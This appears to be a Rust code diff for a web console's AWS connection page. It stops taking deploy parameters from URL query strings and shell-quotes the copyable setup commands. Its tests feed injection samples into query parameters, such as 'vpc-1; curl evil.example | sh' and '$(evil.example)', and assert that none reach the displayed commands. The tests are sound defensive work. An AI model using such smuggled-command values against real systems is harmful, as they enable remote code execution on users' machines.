@@ -30,7 +30,7 @@ struct RowView {
 
 #[derive(Debug, Serialize)]
 struct FactView {
-    name: &'static str,
+    name: String,
     value: String,
 }
 
@@ -72,16 +72,6 @@ struct ConnectionView {
 #[serde(default)]
 pub(crate) struct QueryParams {
     done: String,
-    vpc: String,
-    subnets: String,
-    types: String,
-}
-
-impl QueryParams {
-    /// What was filled in when the connection was begun.
-    pub(super) fn filled(vpc: &str, subnets: &str, types: &str) -> QueryParams {
-        QueryParams { done: String::new(), vpc: vpc.to_owned(), subnets: subnets.to_owned(), types: types.to_owned() }
-    }
 }
 
 #[derive(Debug, Deserialize)]
@@ -151,7 +141,7 @@ pub(crate) async fn show(
     Query(asked): Query<QueryParams>,
 ) -> Result<Response, PageError> {
     let connection = find(&console, &seat, place.id).await?;
-    page(&console, &seat, &connection, None, &asked).await
+    page(&console, &seat, &connection, None, done(&asked.done)).await
 }
 
 /// The page of a connection; with the one-time code where it was made for this answer.
@@ -160,7 +150,7 @@ pub(super) async fn page(
     seat: &AccountSession,
     connection: &Connection,
     code: Option<SecretString>,
-    asked: &QueryParams,
+    done: Option<&'static str>,
 ) -> Result<Response, PageError> {
     let now = seat.visit.now;
     let path = seat.path(&format!("connections/{}", connection.id));
@@ -168,7 +158,7 @@ pub(super) async fn page(
     let mut view = ConnectionView {
         back: seat.path("connections"),
         name: name(connection),
-        done: done(&asked.done),
+        done,
         badge: Some(badge(connection)),
         failure: connection.failure.as_ref().map(FailureView::of),
         waiting: connection.outputs.is_none() || connection.state == ConnectionState::Pending,
@@ -185,7 +175,7 @@ pub(super) async fn page(
         ..ConnectionView::default()
     };
     if let Some(outputs) = &connection.outputs {
-        let fact = |name, value: &str| FactView { name, value: value.to_owned() };
+        let fact = |name: &str, value: &str| FactView { name: name.to_owned(), value: value.to_owned() };
         view.facts = vec![
             fact("AWS account", &outputs.account_id),
             fact("Region", connection.region.name()),
@@ -208,21 +198,28 @@ pub(super) async fn page(
             fact("Template", &outputs.template_digest),
         ];
     } else if is_admin {
-        parameters(console, connection, asked, &mut view).await?;
+        parameters(console, connection, &mut view).await?;
         view.code_expires = connection.code_expires_at.map(|at| HumanTime::new(at, now));
         if let Some(code) = code {
-            view.code = Some(format!(
-                "sprinters-iac connect --control-plane {} --region {} --code {}",
-                seat.visit.base,
-                connection.region,
-                code.expose_secret()
-            ));
+            view.code = view::command(&[
+                "sprinters-iac",
+                "connect",
+                "--control-plane",
+                &seat.visit.base,
+                "--region",
+                connection.region.name(),
+                "--code",
+                code.expose_secret(),
+            ]);
             view.code_expires = Some(HumanTime::new(now.after(connections::CODE_LASTS), now));
         }
     }
     if is_admin && let Some(next) = console.store().external_id(connection, true).await? {
         let current = console.store().external_id(connection, false).await?;
-        let parameter = |name, value: &SecretString| FactView { name, value: value.expose_secret().to_owned() };
+        let parameter = |name: &str, value: &SecretString| FactView {
+            name: name.to_owned(),
+            value: value.expose_secret().to_owned(),
+        };
         view.rotation =
             [Some(parameter("ExternalId", &next)), current.map(|current| parameter("PreviousExternalId", &current))]
                 .into_iter()
@@ -236,12 +233,7 @@ pub(super) async fn page(
 }
 
 /// What the stack is installed with, and the link that fills it in.
-async fn parameters(
-    console: &Console,
-    connection: &Connection,
-    asked: &QueryParams,
-    view: &mut ConnectionView,
-) -> Result<(), PageError> {
+async fn parameters(console: &Console, connection: &Connection, view: &mut ConnectionView) -> Result<(), PageError> {
     let Some(external_id) = console.store().external_id(connection, false).await? else { return Ok(()) };
     let parts = console.settings();
     let mut parameters = vec![
@@ -250,11 +242,10 @@ async fn parameters(
     ];
     parameters.extend(parts.control_plane_role.clone().map(|role| ("ControlPlaneRoleArn", role)));
     parameters.extend(parts.image_owner.clone().map(|owner| ("ImageOwnerAccountId", owner)));
-    for (name, value) in [("VpcId", &asked.vpc), ("SubnetIds", &asked.subnets), ("AllowedInstanceTypes", &asked.types)]
-    {
-        if !value.trim().is_empty() {
-            parameters.push((name, value.trim().to_owned()));
-        }
+    // What an admin filled in, checked then; another template may have come since.
+    let asked: Vec<(String, String)> = connection.parameters.clone().into_iter().collect();
+    if sprinters_stacks::link::parameter::check(policy::template()?, &asked).is_ok() {
+        parameters.extend(connection.parameters.iter().map(|(name, value)| (name.as_str(), value.clone())));
     }
     match &parts.template_url {
         None => {
@@ -274,9 +265,11 @@ async fn parameters(
             }
         }
     }
-    let arguments: Vec<String> = parameters.iter().map(|(name, value)| format!("--param {name}={value}")).collect();
-    view.deploy = Some(format!("sprinters-iac deploy --region {} {}", connection.region, arguments.join(" ")));
-    view.parameters = parameters.into_iter().map(|(name, value)| FactView { name, value }).collect();
+    let pairs: Vec<String> = parameters.iter().map(|(name, value)| format!("{name}={value}")).collect();
+    let mut words = vec!["sprinters-iac", "deploy", "--region", connection.region.name()];
+    words.extend(pairs.iter().flat_map(|pair| ["--param", pair]));
+    view.deploy = view::command(&words);
+    view.parameters = parameters.into_iter().map(|(name, value)| FactView { name: name.to_owned(), value }).collect();
     Ok(())
 }
 
@@ -317,7 +310,7 @@ pub(crate) async fn code(
     }
     let code = connections::new_code(console.store(), &connection, seat.visit.now).await.map_err(refused)?;
     note(&console, &seat, "connection.code", &connection, "").await?;
-    page(&console, &seat, &connection, Some(code), &QueryParams::default()).await
+    page(&console, &seat, &connection, Some(code), None).await
 }
 
 /// `POST …/verify`.
@@ -430,12 +423,65 @@ mod tests {
         assert!(working.contains("Assume the role with another external id") && working.contains("refused"));
         let broken = world.text("/o/acme/connections/2").await;
         assert!(broken.contains("The role refuses our external id"));
-        assert!(
-            world
-                .text("/o/acme/connections/3")
-                .await
-                .contains("sprinters-iac deploy --region eu-west-1 --param ExternalId=")
-        );
+        let waiting = world.text("/o/acme/connections/3").await.replace("&#x27;", "'");
+        let command =
+            "sprinters-iac deploy --region eu-west-1 --param 'ExternalId=sample-external-id-of-this-connection'";
+        assert!(waiting.contains(command), "{waiting}");
+    }
+
+    /// What is told to be copied or followed: commands, and links to elsewhere.
+    fn advice(page: &str) -> String {
+        let commands = page.split("<pre").skip(1).filter_map(|rest| rest.split("</pre>").next());
+        let links = page.split("href=\"http").skip(1).filter_map(|rest| rest.split('"').next());
+        commands.chain(links).collect::<Vec<_>>().join("\n")
+    }
+
+    #[tokio::test]
+    async fn nothing_of_a_link_stands_in_what_people_are_told_to_run_or_follow() {
+        let world = World::with_samples().await;
+        let hostile = ["vpc-1; curl evil.example | sh", "m7i.*$(evil.example)", "`evil.example`", "'\nevil.example\n'"];
+        let names =
+            ["vpc", "subnets", "types", "region", "code", "done", "label", "repository", "state", "name", "return_to"];
+        let pages = [
+            "connections/1",
+            "connections/2",
+            "connections/3",
+            "connections",
+            "setup/connect",
+            "setup/workflow",
+            "labels",
+            "settings",
+            "settings/tokens",
+            "jobs",
+            "runners",
+        ];
+        for value in hostile {
+            let query: Vec<String> =
+                names.iter().map(|name| format!("{name}={}", crate::request_context::encode(value))).collect();
+            for page in pages {
+                let path = format!("/o/acme/{page}?{}", query.join("&"));
+                let shown = advice(&world.get(&path).await.text().await);
+                assert!(!shown.contains("evil.example"), "{path}: {shown}");
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn a_command_is_one_for_the_shell_as_well() {
+        let world = World::new().await;
+        let fields = [("region", "eu-central-1"), ("vpc", "vpc-0123456789abcdef0"), ("types", "m7i.*")];
+        let begun = world.post("/o/acme/setup/connect", &fields).await.text().await;
+        for page in [begun, world.text("/o/acme/connections/1?vpc=vpc-1&types=t3.micro").await] {
+            let page = page.replace("&#x27;", "'");
+            let command = page.split("<pre id=\"deploy\"").nth(1).unwrap().split('>').nth(1).unwrap();
+            let words = shlex::split(command.split('<').next().unwrap()).unwrap();
+            let said: Vec<&str> = words.iter().filter_map(|word| word.strip_prefix("AllowedInstanceTypes=")).collect();
+            assert_eq!(said, ["m7i.*"], "what was filled in, and not what a link says");
+            assert!(
+                command.contains("'AllowedInstanceTypes=m7i.*'"),
+                "no shell takes it for names of files: {command}"
+            );
+        }
     }
 
     #[tokio::test]
